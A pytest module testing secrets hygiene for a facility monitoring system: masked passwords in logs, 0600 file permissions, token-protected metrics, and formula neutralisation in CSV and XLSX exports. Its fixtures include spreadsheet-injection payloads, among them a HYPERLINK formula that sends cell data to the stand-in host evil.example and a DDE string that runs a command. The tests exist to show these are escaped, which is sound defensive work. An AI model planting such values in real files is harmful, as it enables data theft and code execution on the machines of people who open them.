"""Secrets hygiene against the real servers: passwords stay out of logs, files stay private,
exports stay inert, /metrics can ask for a token (issue 11, "Secrets hygiene")."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import io
import logging
import os
import signal
import socket
import stat
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from prometheus_client.core import CounterMetricFamily, Metric
from prometheus_client.registry import Collector

from devtools.services import InfluxServer, MosquittoServer
from facility.config import load_settings
from facility.metrics_http import MetricsServer
from facility.types import Asset

CLI = [sys.executable, "-c", "from facility.cli import main; main()"]
START_WAIT_S = 60
INFLUX_PASSWORD = "Influx-pw-91c2"


def _environment(tmp_path: Path, **overrides: str) -> dict[str, str]:
    env = dict(os.environ)
    env.pop("FACILITY_CONFIG", None)
    env["FACILITY_PATHS__VAR_DIR"] = str(tmp_path / "var")
    env["PYTHONPATH"] = str(Path(__file__).resolve().parents[2])
    env.update(overrides)
    return env


def test_gateway_banner_and_logs_never_show_url_passwords(
    tmp_path: Path, mosquitto: MosquittoServer, influxd: InfluxServer, influx_db: str
) -> None:
    # the closed broker's real test account: the gateway must log in to get to its banner
    user, mqtt_password = mosquitto.credentials
    broker = mosquitto.url
    historian = influxd.url.replace("http://", f"http://admin:{INFLUX_PASSWORD}@")
    env = _environment(
        tmp_path,
        FACILITY_MQTT__URL=broker,
        FACILITY_INFLUXDB__URL=historian,
        FACILITY_INFLUXDB__DATABASE=influx_db,
        FACILITY_GATEWAY__METRICS_PORT="0",
        FACILITY_GATEWAY__ID="gateway-hygiene",
        FACILITY_GATEWAY__GAP_AUDIT="false",
    )
    setup = subprocess.run(
        [*CLI, "-v", "gateway", "setup"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=START_WAIT_S,
        check=False,
    )
    assert setup.returncode == 0, setup.stderr
    out_path, err_path = tmp_path / "stdout", tmp_path / "stderr"
    with out_path.open("w") as out, err_path.open("w") as err:
        process = subprocess.Popen(
            [*CLI, "-v", "gateway", "run", "--any-asset"],
            cwd=tmp_path,
            env=env,
            stdout=out,
            stderr=err,
            text=True,
        )
        try:
            deadline = time.monotonic() + START_WAIT_S
            while "metrics http" not in out_path.read_text() and process.poll() is None:
                assert time.monotonic() < deadline, "gateway did not start"
                time.sleep(0.2)
            assert process.poll() is None, err_path.read_text()
            process.send_signal(signal.SIGINT)
            process.wait(timeout=30)
        finally:
            if process.poll() is None:
                process.kill()
                process.wait()
    said = setup.stdout + setup.stderr + out_path.read_text() + err_path.read_text()
    assert f"{user}:***@127.0.0.1:{mosquitto.port}" in said  # the banner still says where
    assert f"admin:***@127.0.0.1:{influxd.port}" in said
    assert mqtt_password not in said
    assert INFLUX_PASSWORD not in said


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_sqlite_database_and_its_wal_files_are_created_0600(tmp_path: Path) -> None:
    from maintenance.store import LedgerStore

    old_umask = os.umask(0o022)  # the usual umask: files would be 0644
    try:
        database = tmp_path / "var" / "facility.db"
        with LedgerStore(f"sqlite:///{database}") as store:
            assert store.revision()  # migrated: the WAL and shared-memory files exist now
            files = [database, Path(f"{database}-wal"), Path(f"{database}-shm")]
            assert all(f.exists() for f in files)
            assert {f.name: _mode(f) for f in files} == {f.name: 0o600 for f in files}
    finally:
        os.umask(old_umask)


async def test_the_opcua_client_private_key_is_created_0600(tmp_path: Path) -> None:
    from collectors.opcua.security import OpcuaSecurity
    from collectors.opcua.session import ensure_own_certificate

    old_umask = os.umask(0o022)
    try:
        security = OpcuaSecurity(pki_dir=tmp_path / "pki")
        await ensure_own_certificate(security)
        assert _mode(security.own_private_key) == 0o600
        assert _mode(security.own_private_key.parent) == 0o700
        assert security.own_certificate.exists()
    finally:
        os.umask(old_umask)


HOSTILE = {
    "name_en": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "make": "+cmd|' /C calc'!A0",
    "model": "-2+3",
    "serial": "@SUM(1,1)",
    "building": "'quoted already",
    "zone": "-12.5",  # a number as text: shown as a number, nothing to run
}


def _hostile_ledger() -> list[Asset]:
    from maintenance.ledger_files import demo_ledger_paths, read_ledger_file

    assets = read_ledger_file(demo_ledger_paths()[0])
    return [dataclasses.replace(assets[0], **HOSTILE), *assets[1:3]]


def test_ledger_exports_neutralise_formulas_and_read_back_unchanged(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from maintenance.ledger import COLUMNS
    from maintenance.ledger_files import read_ledger_file, write_ledger_file

    assets = _hostile_ledger()
    csv_path, xlsx_path = tmp_path / "ledger.csv", tmp_path / "ledger.xlsx"
    write_ledger_file(assets, csv_path)
    write_ledger_file(assets, xlsx_path)

    rows = list(csv.reader(csv_path.read_text(encoding="utf-8-sig").splitlines()))
    written = dict(zip(rows[0], rows[1], strict=True))
    sheet = load_workbook(xlsx_path).worksheets[0]
    cells = {name: sheet.cell(row=2, column=i + 1) for i, name in enumerate(COLUMNS)}
    assert {name: cells[name].data_type for name in HOSTILE} == {name: "s" for name in HOSTILE}
    for name in ("name_en", "make", "serial"):
        assert written[name] == "'" + HOSTILE[name]
        assert cells[name].value == "'" + HOSTILE[name]
    assert written["model"] == cells["model"].value == "'-2+3"  # a sum, not a number
    assert written["zone"] == cells["zone"].value == "-12.5"
    assert written["building"] == "''quoted already"

    assert read_ledger_file(csv_path) == assets
    assert read_ledger_file(xlsx_path) == assets


def test_alarm_journal_csv_neutralises_formulas() -> None:
    from gateway.alarms.journal import AlarmRecord, write_csv

    record = AlarmRecord.from_json(
        {
            "id": 1,
            "at": "2026-01-01T00:00:00+00:00",
            "alarm_id": "HT-PMP-001/fault",
            "site": "HT",
            "asset_no": "HT-PMP-001",
            "alarm": "fault",
            "event": "ack",
            "value": -3,
            "user": "@ops",
            "comment": '=HYPERLINK("http://evil.example","x")',
            "detail": {},
        }
    )
    out = io.StringIO()
    write_csv([record], out)
    row = dict(zip(*csv.reader(out.getvalue().splitlines()), strict=True))
    assert row["comment"] == "'" + '=HYPERLINK("http://evil.example","x")'
    assert row["user"] == "'@ops"
    assert row["value"] == "-3"


class _OneCounter(Collector):
    def collect(self) -> Iterator[Metric]:
        yield CounterMetricFamily("hygiene_scrapes", "A counter to scrape", 1)


def _get(url: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
    request = urllib.request.Request(url, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, dict(response.headers), response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, dict(exc.headers), exc.read()


async def test_metrics_behind_a_token_refuse_scrapers_without_it() -> None:
    token = load_settings(environ={"FACILITY_METRICS__TOKEN": "scrape-tok-5b1d"}).metrics.token
    assert token == "scrape-tok-5b1d"
    async with MetricsServer(_OneCounter(), token=token) as server:
        for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": token}):
            status, answer_headers, body = await asyncio.to_thread(_get, server.url, headers)
            assert status == 401, headers
            assert answer_headers["WWW-Authenticate"].startswith("Bearer")
            assert b"hygiene_scrapes" not in body
        status, _, body = await asyncio.to_thread(
            _get, server.url, {"Authorization": f"Bearer {token}"}
        )
        assert status == 200
        assert b"hygiene_scrapes_total 1.0" in body
        assert server.unauthorized == 3


async def test_metrics_beyond_loopback_without_a_token_warn(
    caplog: pytest.LogCaptureFixture,
) -> None:
    with caplog.at_level(logging.WARNING, logger="facility.metrics_http"):
        async with MetricsServer(_OneCounter(), host="127.0.0.1"):
            pass
        async with MetricsServer(_OneCounter(), host="0.0.0.0", token="t0k3n-for-test"):
            pass
        assert caplog.messages == []
        async with MetricsServer(_OneCounter(), host="0.0.0.0"):
            pass
    assert len(caplog.messages) == 1
    assert "without a token" in caplog.messages[0]
    assert "FACILITY_METRICS__TOKEN" in caplog.messages[0]


def test_the_dashboard_warns_when_it_listens_beyond_loopback(tmp_path: Path) -> None:
    # the port is taken, so the command stops right after deciding where to listen
    with socket.socket() as taken:
        taken.bind(("0.0.0.0", 0))
        taken.listen()
        port = taken.getsockname()[1]
        done = subprocess.run(
            [*CLI, "dashboard", "run", "--host", "0.0.0.0", "--port", str(port)],
            cwd=tmp_path,
            env=_environment(tmp_path),
            capture_output=True,
            text=True,
            timeout=START_WAIT_S,
            check=False,
        )
    assert done.returncode != 0
    assert "listening beyond loopback without authentication" in done.stderr
    assert "in use" in done.stderr
